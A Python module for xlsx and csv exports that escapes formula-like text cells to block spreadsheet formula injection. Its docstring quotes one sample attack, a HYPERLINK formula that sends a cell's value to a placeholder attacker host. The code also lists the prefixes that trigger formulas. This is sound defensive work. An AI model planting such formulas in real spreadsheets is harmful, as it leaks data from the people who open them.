"""Spreadsheet exports in one place: xlsx (streamed: a bold header row, amounts as numbers with two
decimals, dates as dates yyyy-mm-dd) and csv (one dialect: UTF-8 with BOM, `;`, CRLF).

Formula injection: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return
would be run as a formula by Excel or LibreOffice when a user opens the file (e.g. a line text
`=HYPERLINK("http://evil.example/?x="&A1;"Klicka")` written by a partner and opened by the city's
approver). Every such text is written as a plain text cell in xlsx (with Excel's quote prefix) and
with a leading `'` in csv. Numbers are never escaped: a negative amount stays a number. Every export
of the application goes through `make_xlsx` / `make_csv`, so this is the only place the rule lives.

openpyxl's write-only mode writes each row as it comes instead of keeping every cell of the
workbook in memory, so an export of thousands of rows costs little more than writing them; only
the cells that need a style (header, amounts; dates get theirs from openpyxl) become cell objects.
Widths must be known before the rows: fixed ones, or `fitted_widths` of rows held in memory.
"""

import csv
import datetime as dt
import io
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from decimal import Decimal
from typing import Any, BinaryIO

MONEY_FORMAT = "#,##0.00"
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """True for a text that a spreadsheet program would read as a formula (or a DDE command)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def _number(value: Any) -> Any:
    """Numbers without a negative zero (`-0.00` becomes `0.00`)."""
    if isinstance(value, Decimal | float) and value == 0:
        return abs(value)
    return value


def csv_value(value: Any) -> str:
    """One csv cell: amounts with a decimal point and two decimals, dates ISO 8601, formula-like text
    with a leading `'`."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, Decimal):
        return f"{_number(value):.2f}"
    if isinstance(value, int | float):
        return str(_number(value))
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, dt.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_formula_like(text) else text


def make_csv(rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None) -> bytes:
    """The application's one csv dialect: UTF-8 with BOM, `;`-separated, CRLF line ends."""
    buffer = io.BytesIO()
    write_csv(buffer, rows, header=header)
    return buffer.getvalue()


def write_csv(
    target: BinaryIO, rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None
) -> None:
    """`make_csv` into an open binary file, row by row: memory stays flat however many rows come."""
    text = io.TextIOWrapper(target, encoding="utf-8", newline="", write_through=True)
    try:
        text.write("\ufeff")
        writer = csv.writer(text, delimiter=";", lineterminator="\r\n")
        if header is not None:
            writer.writerow([csv_value(v) for v in header])
        for row in rows:
            writer.writerow([csv_value(v) for v in row])
        text.flush()
    finally:
        text.detach()  # the caller owns (and closes) the file


@dataclass
class Sheet:
    """One worksheet: the header row, then `rows` (any iterable, read once)."""

    title: str
    header: Sequence[Any]
    rows: Iterable[Sequence[Any]]
    widths: Mapping[str, float] = field(default_factory=dict)  # column letter → width
    freeze_header: bool = False
    caption: str = ""  # an optional bold first row above the header (e.g. the table's title)


def column_widths(widths: Sequence[float]) -> dict[str, float]:
    """Widths of the first columns, in order (A, B, …)."""
    from openpyxl.utils import get_column_letter

    return {get_column_letter(i): width for i, width in enumerate(widths, 1)}


def fitted_widths(rows: Sequence[Sequence[Any]], *, minimum: int = 10, maximum: int = 70) -> dict[str, float]:
    """Column widths from the longest value of each column (header included), within the bounds."""
    longest: list[int] = []
    for row in rows:
        for i, value in enumerate(row):
            if i == len(longest):
                longest.append(0)
            longest[i] = max(longest[i], len(str(value)) if value is not None else 0)
    return column_widths([min(max(n + 2, minimum), maximum) for n in longest])


def make_xlsx(sheets: Iterable[Sheet], *, title: str = "") -> bytes:
    buffer = io.BytesIO()
    write_xlsx(buffer, sheets, title=title)
    return buffer.getvalue()


def write_xlsx(target: BinaryIO, sheets: Iterable[Sheet], *, title: str = "") -> None:
    """`make_xlsx` into an open binary file. openpyxl's write-only sheets spool their rows to a temporary
    file as they are appended, so memory stays flat however many rows come."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    workbook = Workbook(write_only=True)
    if title:
        workbook.properties.title = title
    bold = Font(bold=True)
    for sheet in sheets:
        ws = workbook.create_sheet(sheet.title)
        for letter, width in sheet.widths.items():
            ws.column_dimensions[letter].width = width
        if sheet.freeze_header:
            ws.freeze_panes = "A2"
        if sheet.caption:
            ws.append([_cell(ws, sheet.caption, font=bold)])
        ws.append([_cell(ws, value, font=bold) for value in sheet.header])
        for row in sheet.rows:
            ws.append([_cell(ws, v) if isinstance(v, Decimal | str) else _number(v) for v in row])
    workbook.save(target)


def _cell(ws: Any, value: Any, *, font: Any = None) -> Any:
    from openpyxl.cell import WriteOnlyCell

    if is_formula_like(value):
        cell = WriteOnlyCell(ws, value)
        cell.data_type = "s"  # openpyxl would store a text starting with "=" as a formula
        cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
    elif isinstance(value, str) and not font:
        return value  # plain text needs no cell object
    else:
        cell = WriteOnlyCell(ws, _number(value))
    return _style(cell, font=font)


def _style(cell: Any, *, font: Any = None) -> Any:
    if font is not None:
        cell.font = font
    if isinstance(cell.value, Decimal):
        cell.number_format = MONEY_FORMAT
    return cell
